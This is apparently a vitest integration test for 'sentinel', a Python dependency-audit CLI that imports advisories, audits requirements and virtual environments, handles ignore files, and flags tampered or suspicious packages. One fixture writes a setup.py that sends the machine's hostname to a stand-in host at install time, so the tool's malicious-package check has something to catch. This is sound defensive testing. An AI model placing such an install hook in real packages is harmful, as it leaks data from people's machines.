// `sentinel advisories` and `sentinel audit` as a person runs them: real files, real exit codes.

import { spawnSync } from 'node:child_process'
import { mkdirSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { afterAll, beforeAll, expect, it } from 'vitest'

const main = new URL('../main.ts', import.meta.url).pathname
let place: string

beforeAll(() => {
  place = mkdtempSync(join(tmpdir(), 'audit-'))
  const record = {
    id: 'PYSEC-1',
    modified: '2026-01-01T00:00:00Z',
    aliases: ['CVE-1'],
    details: 'Something is wrong.',
    database_specific: { severity: 'MODERATE' },
    affected: [
      {
        package: { ecosystem: 'PyPI', name: 'foo' },
        ranges: [{ type: 'ECOSYSTEM', events: [{ introduced: '0' }, { fixed: '2.0' }] }],
      },
    ],
  }
  write('records/PYSEC-1.json', JSON.stringify(record))
  write('project/requirements.txt', 'foo==1.0\nbar==1.0\n')
  write('clean/requirements.txt', 'foo==2.0\n')
  write('venv/pyvenv.cfg', 'home = /nowhere/bin\n')
  write('venv/lib/python3.12/site-packages/Foo-1.5.dist-info/METADATA', 'Name: Foo\nVersion: 1.5\n')
  write(
    'ignores.toml',
    '[[ignore]]\nid = "CVE-1"\nreason = "not reached"\nowner = "team"\nexpires = 2999-01-01\n',
  )
  write('careless.toml', '[[ignore]]\nid = "CVE-1"\n')
})
afterAll(() => rmSync(place, { recursive: true }))

function write(path: string, text: string): void {
  mkdirSync(join(place, path, '..'), { recursive: true })
  writeFileSync(join(place, path), text)
}

function sentinel(...args: string[]) {
  const all = [main, ...args, '--data', join(place, 'data')]
  const { status, stdout, stderr } = spawnSync(process.execPath, all, { cwd: place, encoding: 'utf8' })
  return { status, stdout, stderr }
}

it('without data judges nothing, and does not end as if all were well', () => {
  expect(sentinel('advisories', 'status').status).toBe(1)
  const { status, stdout } = sentinel('audit', 'clean')
  expect(status).toBe(2)
  expect(stdout).toContain('nothing was judged')
})

it('imports records, then finds, ignores and ends as the threshold says', () => {
  expect(sentinel('advisories', 'import', 'records')).toMatchObject({
    status: 0,
    stdout: expect.stringMatching(/1 advisories/),
  })
  expect(sentinel('audit', 'project')).toMatchObject({
    status: 1,
    stdout: expect.stringMatching(/Fix: foo==2\.0/),
  })
  expect(sentinel('audit', 'clean')).toMatchObject({
    status: 0,
    stdout: expect.stringMatching(/0 known faults.*\n.*days? old/),
  })
  expect(sentinel('audit', 'venv')).toMatchObject({ status: 1, stdout: expect.stringMatching(/foo 1\.5/) })
  expect(sentinel('audit', '--python', 'venv/bin/python').status).toBe(2)
  expect(sentinel('audit', 'project', '--min-severity', 'high').status).toBe(0)
  expect(sentinel('audit', 'project', '--ignores', 'ignores.toml')).toMatchObject({
    status: 0,
    stdout: expect.stringMatching(/not reached/),
  })
  expect(sentinel('audit', 'project', '--ignores', 'careless.toml')).toMatchObject({
    status: 2,
    stderr: expect.stringMatching(/no reason/),
  })
  const sarif = JSON.parse(sentinel('audit', '-r', 'project/requirements.txt', '--format', 'sarif').stdout)
  expect(sarif.runs[0].results).toMatchObject([{ ruleId: 'CVE-1' }])
})

it('does not let an empty import take the place of what is there', () => {
  mkdirSync(join(place, 'nothing'), { recursive: true })
  expect(sentinel('advisories', 'import', 'nothing').status).toBe(2)
  expect(sentinel('advisories', 'status').status).toBe(0)
  expect(sentinel('audit', 'nothing')).toMatchObject({
    status: 2,
    stderr: expect.stringMatching(/holds no environment/),
  })
})

it('tells files that were changed after they were installed, where it is asked to', () => {
  const site = 'changed/lib/python3.12/site-packages'
  write('changed/pyvenv.cfg', 'home = /nowhere/bin\n')
  write(`${site}/six.py`, 'changed = True\n')
  write(`${site}/six-1.0.dist-info/METADATA`, 'Name: six\nVersion: 1.0\n')
  write(`${site}/six-1.0.dist-info/RECORD`, 'six.py,sha256=AAAA,1\n')
  expect(sentinel('audit', 'changed').status).toBe(0)
  const { status, stdout } = sentinel('audit', 'changed', '--files')
  expect(status).toBe(1)
  expect(stdout).toContain('six 1.0: six.py is changed')
})

it('judges one package by its own files', () => {
  write(
    'harmful/setup.py',
    'import socket, urllib.request\nurllib.request.urlopen("http://h.invalid/?" + socket.gethostname())\n',
  )
  write('honest/good/__init__.py', 'def one():\n    return 1\n')
  const harmful = sentinel('audit', '--archive', 'harmful', '--older', 'honest', '--json')
  expect(harmful.status).toBe(1)
  expect(JSON.parse(harmful.stdout)).toMatchObject({
    severity: 'high',
    signs: expect.arrayContaining([expect.objectContaining({ sign: 'tells-of-machine', file: 'setup.py' })]),
    differences: expect.arrayContaining([
      expect.objectContaining({ kind: 'new', does: 'http.request', role: 'install' }),
    ]),
  })
  expect(sentinel('audit', '--archive', 'honest').status).toBe(0)
})
